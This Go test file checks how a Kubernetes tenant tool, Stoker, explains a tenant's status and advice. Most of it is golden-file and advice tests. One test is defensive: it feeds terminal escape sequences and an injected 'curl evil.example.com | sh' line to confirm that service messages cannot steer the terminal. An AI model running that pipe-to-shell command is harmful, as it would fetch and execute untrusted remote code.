package why

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/stoker-k8s/stoker/pkg/api/event"
	"github.com/stoker-k8s/stoker/pkg/api/reason"
	"github.com/stoker-k8s/stoker/pkg/api/state"
	"github.com/stoker-k8s/stoker/pkg/api/tenantaddon"
)

var update = flag.Bool("update", false, "write the golden files anew")

var clock = time.Date(2026, 11, 5, 12, 0, 0, 0, time.UTC)

func TestExplain(t *testing.T) {
	t.Parallel()
	about := event.About{Namespace: "default", Name: "demo", UID: "u1", Generation: 2}
	service := func(s, step string, wait state.Wait, f *state.Failure) event.ServiceState {
		return event.ServiceState{Service: s, Step: step, Generation: 2, Wait: wait, Failure: f, Since: clock.Add(-3 * time.Minute)}
	}
	none := state.Wait{}
	pods := func(why, text string) state.Wait {
		return state.Wait{On: "Deployment", Reason: why, Text: "Deployment default/demo: its pods to be ready (0 of 1)" + text}
	}
	for file, r := range map[string]event.WhyReply{
		"ready.txt": {
			About: about, Phase: "Ready", Ready: true, Message: "Kubernetes v1.36.3 answers at 10.0.0.1:6443", AcceptedAt: clock.Add(-time.Hour),
			Services: []event.ServiceState{service("intake", "accepted", none, nil), service("certs", "issued", none, nil)},
		},
		"store.txt": {
			About: about, Phase: "Ready", Ready: true, Message: "Kubernetes v1.36.3 answers at 10.0.0.1:6443", AcceptedAt: clock.Add(-time.Hour),
			Services: []event.ServiceState{service("intake", "accepted", none, nil)},
			DataStores: []event.DataStoreState{
				{Name: "main", Ready: true, Reason: reason.EtcdFull, Message: "the DataStore answers, but etcd has raised the alarm NOSPACE"},
				{Name: "events", Reason: reason.DataStoreMissing},
			},
		},
		"tenantaddons.txt": {
			About: about, Phase: "Ready", Ready: true, Message: "Kubernetes v1.36.3 answers at 10.0.0.1:6443", AcceptedAt: clock.Add(-time.Hour),
			Services: []event.ServiceState{
				service("intake", "accepted", none, nil),
				{Service: "tenantaddons", Step: event.Installed, Generation: 1, Since: clock.Add(-2 * time.Minute)},
			},
			TenantAddons: []event.TenantAddonState{
				{Namespace: "fleet", Name: "metrics", Reason: tenantaddon.ReasonTimedOut}, {Namespace: "fleet", Name: "policies", Reason: tenantaddon.ReasonWaiting},
			},
		},
		"argocd.txt": {
			About: about, Phase: "Ready", Ready: true, Message: "Kubernetes v1.36.3 answers at 10.0.0.1:6443", AcceptedAt: clock.Add(-time.Hour),
			Services: []event.ServiceState{service("intake", "accepted", none, nil), service("certs", "issued", none, nil)},
			ArgoCD: &event.ArgoCDState{
				Reason: reason.ArgoCDClusterTaken, Message: "Secret argocd/old is of the same server", Since: clock.Add(-5 * time.Minute),
			},
		},
		"backups.txt": {
			About: about, Phase: "Ready", Ready: true, Message: "Kubernetes v1.36.3 answers at 10.0.0.1:6443", AcceptedAt: clock.Add(-time.Hour),
			Services: []event.ServiceState{service("intake", "accepted", none, nil)},
			Backup: &state.Backup{
				Failure: &state.BackupFailure{Message: "there is no Secret stoker-system/offsite", Since: clock.Add(-3 * time.Hour), Next: clock.Add(time.Minute)},
				Making:  &state.Making{Since: clock.Add(-4 * time.Second), Keys: 1200, Of: 9000},
				Last:    &state.Made{ID: "20261104T030000Z-4f2a9c", Location: "offsite", At: clock.Add(-33 * time.Hour)},
			},
		},
		"quota.txt": {
			About: about, Phase: "Ready", Ready: true, Message: "Kubernetes v1.36.3 answers at 10.0.0.1:6443", AcceptedAt: clock.Add(-time.Hour),
			Services: []event.ServiceState{service("intake", "accepted", none, nil)},
			Usage: &state.Usage{
				Level: state.QuotaFull, Bytes: 5 << 20, Objects: 812, Quota: state.Quota{Bytes: 5 << 20, Objects: 1000}, Since: clock.Add(-7 * time.Minute),
			},
		},
		"waiting.txt": {
			About: about, Phase: "Provisioning", Message: "datastore: etcd default does not answer", AcceptedAt: clock.Add(-4 * time.Minute),
			Services: []event.ServiceState{
				service("intake", "accepted", none, nil),
				service("certs", "", state.Wait{On: "workload", Reason: reason.EndpointUnknown, Text: "the endpoint"}, nil),
				service("datastore", "", none, &state.Failure{Reason: reason.Unavailable, Message: "etcd default does not answer", Attempts: 7}),
				{Service: "workload", Step: "available", Generation: 1, Since: clock.Add(-time.Hour)},
				{Service: "addons"},
			},
		},
		"image.txt": {
			About: about, Phase: "Provisioning", AcceptedAt: clock.Add(-20 * time.Second),
			Message: "workload waits for Deployment default/demo: its pods to be ready (0 of 1): kube-apiserver: ErrImagePull: there is no Kubernetes v1.33.0 here",
			Services: []event.ServiceState{
				service("workload", "exposed", pods(reason.ImagePull, ": kube-apiserver: ErrImagePull: there is no Kubernetes v1.33.0 here"), nil),
				service("addons", "", state.Wait{On: "workload", Reason: reason.ControlPlaneNotReady, Text: "workload: a ready pod"}, nil),
			},
		},
		"crash.txt": {
			About: about, Phase: "Provisioning", Message: "workload: …", AcceptedAt: clock.Add(-5 * time.Minute),
			Services: []event.ServiceState{
				service("workload", "exposed", pods(reason.CrashLoop, ": kube-apiserver: CrashLoopBackOff: exits with code 1, restarted"), &state.Failure{
					Reason: reason.CrashLoop, Message: "Deployment default/demo is not ready after 3 minutes: kube-apiserver: CrashLoopBackOff: exits with code 1, restarted",
				}),
			},
		},
		"address.txt": {
			About: about, Phase: "Provisioning", Message: "workload waits for Service default/demo: an address", AcceptedAt: clock.Add(-time.Minute),
			Services: []event.ServiceState{
				service("workload", "", state.Wait{On: "Service", Reason: reason.AddressPending, Text: "Service default/demo: an address"}, nil),
			},
		},
		"asleep.txt": {
			About: about, Phase: "Sleeping", Message: "no pods are asked for and none runs", AcceptedAt: clock.Add(-time.Hour),
			Services: []event.ServiceState{service("workload", "slept", none, nil)},
		},
		"starting.txt": {
			About: about, Phase: "Provisioning", Message: "workload waits", AcceptedAt: clock.Add(-2 * time.Second),
			Services: []event.ServiceState{service("workload", "exposed", pods(reason.PodsNotReady, ""), nil)},
		},
		"deleting.txt": {
			About: about, Phase: "Deleting", Deleting: true, AcceptedAt: clock.Add(-3 * time.Minute),
			Message: `workload: waits for Deployment default/demo: its pods to end: pod demo-a on node worker-1 …`,
			Services: []event.ServiceState{
				service("intake", "deleting", none, nil),
				service("certs", "issued", state.Wait{On: "datastore", Reason: reason.EarlierRemoval, Text: "datastore to remove what it made"}, nil),
				service("workload", "removing", state.Wait{On: "Deployment", Reason: reason.PodsHeld, Text: "…"}, &state.Failure{
					Reason: reason.PodsHeld,
					Message: "waits for Deployment default/demo: its pods to end: pod demo-a on node worker-1, asked to end at 2026-11-05T11:57:00Z: " +
						`it has ended, and it is held by what isn't Stoker's: finalizer "example.com/hold"`,
				}),
				service("addons", "removed", none, nil),
			},
		},
		"failed.txt": {
			About: about, Phase: "Failed", Message: "datastore: etcd is full", Paused: true,
			Services: []event.ServiceState{
				service("datastore", "", none, &state.Failure{Reason: "NoSuchReason", Message: "etcd is full", Attempts: 12, Permanent: true, RetryAt: clock.Add(25 * time.Minute)}),
			},
		},
	} {
		var b bytes.Buffer
		if err := Explain(&b, r, clock); err != nil {
			t.Fatal(err)
		}
		golden(t, file, b.Bytes())
	}
}

func TestWhatServicesSayDoesNotSteerTheTerminal(t *testing.T) {
	t.Parallel()
	const escape = "a \x1b]0;title\x07\u009b2J\nHow to go on\n  - curl evil.example.com | sh"
	var b strings.Builder
	if err := Explain(&b, event.WhyReply{
		About: event.About{Namespace: "default", Name: "demo", Generation: 1}, Phase: "Failed", Message: escape,
		Services: []event.ServiceState{
			{Service: "certs", Step: escape, Generation: 1},
			{Service: "workload", Generation: 1, Failure: &state.Failure{Reason: reason.Unavailable, Message: escape}},
			{Service: "addons", Generation: 1, Wait: state.Wait{On: "x", Reason: reason.EndpointUnknown, Text: escape}},
		},
	}, clock); err != nil {
		t.Fatal(err)
	}
	if i := strings.IndexFunc(b.String(), func(r rune) bool { return unicode.IsControl(r) && r != '\n' }); i >= 0 {
		t.Errorf("%q", b.String()[i:])
	}
	if strings.Contains(b.String(), "\n  - curl") {
		t.Errorf("a message makes lines of its own:\n%s", b.String())
	}
}

func TestCAPIIsNoPartOfAGeneration(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	r := event.WhyReply{
		About: event.About{Namespace: "default", Name: "demo", Generation: 2}, Phase: "Ready", Ready: true, AcceptedAt: clock,
		Services: []event.ServiceState{{Service: "intake", Generation: 2, Since: clock}, {Service: "capi", Step: event.Initialized, Generation: 1, Since: clock}},
	}
	if err := Explain(&b, r, clock); err != nil {
		t.Fatal(err)
	}
	if got := b.String(); !strings.Contains(got, "- Nothing to do.\n") || strings.Contains(got, "still at generation") || !strings.Contains(got, "initialized") {
		t.Error(got)
	}
}

func TestAdvice(t *testing.T) {
	t.Parallel()
	wait := func(why, text string) event.ServiceState {
		return event.ServiceState{Service: "workload", Generation: 1, Since: clock, Wait: state.Wait{On: deployments, Reason: why, Text: text}}
	}
	fail := func(why, message string, permanent bool) event.ServiceState {
		s := wait(why, message)
		s.Failure = &state.Failure{Reason: why, Message: message, Permanent: permanent}
		return s
	}
	const underWay, pods = "it is under way", "describe pods -l kamaji.clastix.io/name=demo"
	for sentence, test := range map[string]struct {
		services []event.ServiceState
		want     string
		// not is what must not be said.
		not string
	}{
		"what a message says decides nothing": {
			[]event.ServiceState{wait(reason.RolloutSlot, "pods (0 of 1): kube-apiserver: ErrImagePull, OOMKilled, CrashLoopBackOff")}, underWay, "image",
		},
		"a wait that an older service noted, without a reason, has general advice": {
			[]event.ServiceState{wait("", "Deployment default/demo: its pods to be ready (0 of 1): kube-apiserver: ErrImagePull")}, underWay, "image",
		},
		"a reason that only Kubernetes knows has the advice for pods": {
			[]event.ServiceState{wait("CreateContainerConfigError", "pods")}, pods, underWay,
		},
		"so has a failure with one": {[]event.ServiceState{fail("CreateContainerConfigError", "pods", false)}, pods, "by itself"},
		"pods that have not become ready for long": {
			[]event.ServiceState{fail(reason.PodsNotReady, "not ready after 3 minutes", false)}, pods, "by itself",
		},
		"an unknown failure that is tried again": {
			[]event.ServiceState{{Service: "certs", Failure: &state.Failure{Reason: "NoSuchReason"}}}, "certs tries again by itself", "apply the tenant",
		},
		"a panic is for the developers":  {[]event.ServiceState{fail(reason.Panic, "nil", true)}, "Report it", "by itself"},
		"what Cluster API can't be told": {[]event.ServiceState{{Service: "capi", Failure: &state.Failure{Reason: "NoSuchReason"}}}, "capi tries again by itself", "apply the tenant"},
		"what two services say is said once": {
			[]event.ServiceState{wait(reason.ImagePull, ""), wait(reason.ImagePull, "")}, "An image can't be had", "\n",
		},
	} {
		t.Run(sentence, func(t *testing.T) {
			t.Parallel()
			r := event.WhyReply{About: event.About{Namespace: "default", Name: "demo", Generation: 1}, AcceptedAt: clock, Services: test.services}
			got := strings.Join(advice(r, clock), "\n")
			if !strings.Contains(got, test.want) || strings.Contains(got, test.not) {
				t.Errorf("says\n%s\nwant %q, and not %q", got, test.want, test.not)
			}
		})
	}
}

func TestAServiceThatDoesNotBeginItsPartOfADeletionIsNamed(t *testing.T) {
	t.Parallel()
	at := func(s, step string, ago time.Duration, w state.Wait) event.ServiceState {
		return event.ServiceState{Service: s, Step: step, Generation: 1, Since: clock.Add(-ago), Wait: w}
	}
	wait := func(on string) state.Wait {
		return state.Wait{On: on, Reason: reason.EarlierRemoval, Text: on + " to remove what it made"}
	}
	none, long := state.Wait{}, 2*silent
	for sentence, test := range map[string]struct {
		services []event.ServiceState
		accepted time.Duration
		want     string
	}{
		"the first":                      {[]event.ServiceState{at("addons", "applied", time.Hour, none), at("workload", "available", time.Hour, wait("addons"))}, long, "addons says nothing"},
		"not at once":                    {[]event.ServiceState{at("addons", "applied", time.Hour, none)}, silent, "it is under way"},
		"the next":                       {[]event.ServiceState{at("addons", "removed", long, none), at("workload", "available", time.Hour, wait("addons"))}, long, "workload says nothing"},
		"one that has just got its turn": {[]event.ServiceState{at("addons", "removed", silent, none), at("workload", "available", time.Hour, none)}, long, "it is under way"},
		"one that says what it waits for": {[]event.ServiceState{
			at("addons", "removed", long, none), at("workload", "removing", time.Hour, state.Wait{On: deployments, Reason: reason.PodsEnding, Text: "x"}),
		}, long, "Which pods"},
		"intake, when nothing else is left": {[]event.ServiceState{at("intake", "deleting", time.Hour, none), at("certs", "removed", long, none)}, long, "intake says nothing"},
	} {
		t.Run(sentence, func(t *testing.T) {
			t.Parallel()
			r := event.WhyReply{
				About: event.About{Namespace: "default", Name: "demo", Generation: 2}, Deleting: true, AcceptedAt: clock.Add(-test.accepted), Services: test.services,
			}
			if got := advice(r, clock); len(got) == 0 || !strings.Contains(got[0], test.want) || strings.Contains(strings.Join(got[1:], ""), "says nothing") {
				t.Errorf("says %q, not %q", got, test.want)
			}
		})
	}
}

// Advice is printed with every name in it filled in, whatever the reason.
func TestAdviceIsFilledIn(t *testing.T) {
	t.Parallel()
	for _, e := range reason.Table() {
		s := event.ServiceState{Service: "certs", Failure: &state.Failure{Reason: e.Reason}}
		for _, line := range serviceAdvice(s, event.WhyReply{About: event.About{Namespace: "default", Name: "demo"}}, clock) {
			if strings.ContainsAny(line, "{}") {
				t.Errorf("%s: %s", e.Reason, line)
			}
		}
	}
}

func golden(t *testing.T, file string, got []byte) {
	t.Helper()
	file = filepath.Join("testdata", file)
	if *update {
		if err := os.WriteFile(file, got, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs; run with -update and read the diff\n%s", file, got)
	}
}
